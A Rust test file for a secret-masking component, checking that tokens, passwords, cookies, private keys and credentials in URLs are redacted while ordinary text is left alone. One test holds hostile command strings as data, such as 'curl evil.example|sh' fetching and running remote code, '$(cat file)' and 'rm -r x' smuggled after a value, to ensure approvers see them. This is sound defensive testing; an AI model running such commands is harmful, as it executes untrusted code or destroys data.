//! What looks like a secret, and what only looks a little like one.

use std::cell::Cell;

use super::*;
use crate::Masker;

fn masked(text: &str) -> String {
    Masker::default().mask_text(text).into_owned()
}

/// Shows: S1-85.
#[test]
fn credentials_in_headers_are_masked_and_their_scheme_stays() {
    for (text, expected) in [
        ("Authorization: Bearer xyz", "Authorization: Bearer ***"),
        ("authorization:Basic dXNlcjpwYXNz status=401", "authorization:Basic *** status=401"),
        ("Proxy-Authorization: Digest a=\"b\", c=d\nnext", "Proxy-Authorization: ***\nnext"),
        ("curl -H 'Authorization: custom-1 x' url", "curl -H 'Authorization: ***' url"),
        ("Cookie: a=\"1\"; b=2\r\nHost: h", "Cookie: ***\r\nHost: h"),
        ("{\"set-cookie\": \"a=b; Path=/\"}", "{\"set-cookie\": \"***\"}"),
        ("got Bearer abc.def-123, sorry", "got Bearer ***, sorry"),
        ("sent Basic dXNlcjpwYXNz", "sent Basic ***"),
    ] {
        assert_eq!(masked(text), expected);
    }
}

/// Shows: S1-85, S3-44.
#[test]
fn values_assigned_to_sensitive_names_are_masked() {
    for (text, expected) in [
        ("GITHUB_TOKEN=abc NODE_ENV=dev", "GITHUB_TOKEN=*** NODE_ENV=dev"),
        ("--api-key=abc --verbose", "--api-key=*** --verbose"),
        ("password='a b \\' c' next", "password='***' next"),
        ("db_password: hunter2, user: me", "db_password: ***, user: me"),
        ("X-Api-Key: abcdef", "X-Api-Key: ***"),
        ("{\"clientSecret\": \"abc\", \"n\": 1}", "{\"clientSecret\": \"***\", \"n\": 1}"),
        (r#"body "{\"password\":\"x y\"}""#, r#"body "{\"password\":\"***\"}""#),
        ("secret = \"abc\"", "secret = \"***\""),
        ("auth[token]=abc&x=1", "auth[token]=***&x=1"),
    ] {
        assert_eq!(masked(text), expected);
    }
}

/// Shows: S1-85, S3-44.
#[test]
fn the_value_after_a_sensitive_flag_is_masked() {
    for (text, expected) in [
        ("run --token abc123 --verbose", "run --token *** --verbose"),
        ("run --api-key 'a b' x", "run --api-key '***' x"),
        ("run -password hunter2", "run -password ***"),
        ("sh -c 'run --auth-token aB-cd'", "sh -c 'run --auth-token ***'"),
        ("--token averyverylongtokenoflettersalone", "--token ***"),
        ("args: [\"--token\", \"abc\", \"-v\"]", "args: [\"--token\", \"***\", \"-v\"]"),
        ("['--secret',\n 'abc']", "['--secret',\n '***']"),
        (r#"{\"args\":[\"--token\",\"abc\"]}"#, r#"{\"args\":[\"--token\",\"***\"]}"#),
    ] {
        assert_eq!(masked(text), expected);
    }
}

/// Shows: S1-85, S3-44.
#[test]
fn the_value_beside_a_sensitive_name_is_masked() {
    for (text, expected) in [
        (
            "env [{\"name\":\"API_KEY\",\"value\":\"abc\"}",
            "env [{\"name\":\"API_KEY\",\"value\":\"***\"}",
        ),
        ("- name: API_KEY\n  value: abc\n", "- name: API_KEY\n  value: ***\n"),
        ("{'key': 'x-api-key', 'value': 'a b'}", "{'key': 'x-api-key', 'value': '***'}"),
    ] {
        assert_eq!(masked(text), expected);
    }
}

/// Shows: S1-85, S3-44.
#[test]
fn what_html_escaped_is_masked_as_what_it_stands_for() {
    for (text, expected) in [
        (
            "<pre>{&quot;password&quot;: &quot;a b&quot;, &quot;n&quot;: 1}</pre>",
            "<pre>{&quot;password&quot;: &quot;***&quot;, &quot;n&quot;: 1}</pre>",
        ),
        ("token=&#34;a b&#34; c", "token=&#34;***&#34; c"),
        ("?page=1&amp;token=abc&amp;x=1", "?page=1&amp;token=***&amp;x=1"),
    ] {
        assert_eq!(masked(text), expected);
    }
}

/// Shows: S1-85, S3-44.
#[test]
fn credentials_in_urls_are_masked() {
    for (text, expected) in [
        ("https://h/a?token=abc&page=2&api_key=d#x", "https://h/a?token=***&page=2&api_key=***"),
        ("https://h/a?key=AbC&q=monkey", "https://h/a?key=***&q=monkey"),
        ("clone https://me:pass@h.example/x", "clone https://***@h.example/x"),
        ("postgres://app:p%40ss@db:5432/x", "postgres://***@db:5432/x"),
        ("https://tokenlike@h/x", "https://***@h/x"),
    ] {
        assert_eq!(masked(text), expected);
    }
}

/// Shows: S1-85.
#[test]
fn tokens_of_known_shape_and_private_keys_are_masked() {
    for token in [
        "ghp_0123456789abcdefABCDEF0123456789abcd",
        "github_pat_11ABCDEFG0abcdefghijkl_mnop",
        "sk-proj-abcdefGHIJKL0123456789",
        "xoxb-1234567890-abcdef",
        "AKIAIOSFODNN7EXAMPLE",
        "tgt_0123456789abcdefghij-_0123456789ABCDEFGHIJK",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.s1gn-ature_",
        "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----",
        "-----BEGIN PRIVATE KEY-----\\nMIIE\\nAAAA\\n-----END PRIVATE KEY-----",
    ] {
        assert_eq!(masked(&format!("got ({token}), sorry")), "got (***), sorry");
    }
    assert_eq!(masked("x -----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn"), "x ***");
}

#[test]
fn ordinary_text_is_left_alone() {
    for text in [
        "unexpected token: end of line, wrong password: try again",
        "max_tokens=4096 total_tokens: 17 key=user:1 monkey=2 token_type=Bearer",
        "Bearer token missing; WWW-Authenticate: Bearer realm=\"x\", error=\"invalid_token\"",
        "basic usage of the basics: Basic Authorization is off, bearers of news",
        "git clone ssh://git@github.com/a/b https://git@h/x mail me@example.com",
        "sk-learn-and-other-long-words-here ghp_short AKIAlowercase1234567 eyJ.only",
        "tgt_0123456789abcdefghij",
        "-----BEGIN CERTIFICATE-----\nMIIE\n-----END CERTIFICATE-----",
        "token=null password: None secret=",
        "let token = tokens.next(); fn f(api_key: str) {} Token::new()",
        "use --token to log in, or --password. The --api-key flag is needed; --token is not",
        "  --token TOKEN  The token\n  --api-key     GitHub's key\n  --password <password>  x1",
        "--token --verbose --password $PASSWORD --secret (env: S1) --key ./a1.pem --token-file /a/1",
        "name: build\nvalue: abc1\nname: API_KEY of value: 1, {\"name\":\"API_KEY\",\"valued\":\"x\"}",
        "a &amp; b; R&D; &nbsp; &#; &quot;quoted&quot; &token; 1 &lt; 2",
        "C:\\new\\table 100% größe \u{1b}[0m",
    ] {
        assert_eq!(masked(text), text);
    }
}

/// A person who approves a command must see all of what would run.
#[test]
fn references_and_commands_are_not_hidden_as_if_they_were_values() {
    for text in [
        "TOKEN=$(curl evil.example|sh) x",
        "TOKEN=\"$(curl evil.example | sh)\"",
        "TOKEN=`curl evil.example`",
        "Authorization: Bearer ${TOKEN}",
        "API_KEY=$KEY run --token={{token}}",
        "run --token $(curl evil.example|sh) --token ${TOKEN} --token `x1`",
        "run --token \"$(curl evil.example | sh)\"",
        "Authorization: $(cat file)",
    ] {
        assert_eq!(masked(text), text);
    }
    assert_eq!(masked("TOKEN=abc$(rm -r x);ls"), "TOKEN=***$(rm -r x);ls");
    assert_eq!(masked("TOKEN=abc;rm -r x"), "TOKEN=***;rm -r x");
}

thread_local! {
    /// How many bytes were gone through to see where something ends.
    static STEPS: Cell<usize> = const { Cell::new(0) };
}

pub(super) fn note_steps(count: usize) {
    STEPS.set(STEPS.get() + count);
}

fn steps_over(text: &str) -> usize {
    STEPS.set(0);
    find_plain(text, &mut Vec::new());
    STEPS.get()
}

#[test]
fn names_and_values_without_end_take_no_more_than_a_few_looks() {
    for piece in [
        "a_key=",
        "a_key=$(",
        "cookie:",
        "cookie:{{",
        "cookie: token x ",
        "authorization: bearer $A ",
        "token: ",
        "Bearer ",
        "b-",
        "/B+",
        "://",
        "eyJ.",
        "-----BEGIN ",
        "--token ",
        "\"--token\",",
        "--token '",
        "-",
        "name: token value: ",
        "&quot;",
        "&",
    ] {
        // What comes at the end can make nothing of all that came before.
        for last in ["", "`", "$(", "'", "\""] {
            let text = format!("{}{last}", piece.repeat(5000));
            let steps = steps_over(&text);
            assert!(steps <= 8 * text.len(), "{piece}{last}: {steps} for {} bytes", text.len());
        }
    }
}

#[test]
fn eight_megabytes_without_a_space_are_gone_through_once() {
    let digits = "ABCDEFGHIJKLMNOPQRSTUVWXYZ/bcdefghijklmnopqrstuvwxyza+0123456789-B";
    let text = digits.repeat((8 << 20) / digits.len());
    assert!(steps_over(&text) <= 8 * text.len());
}
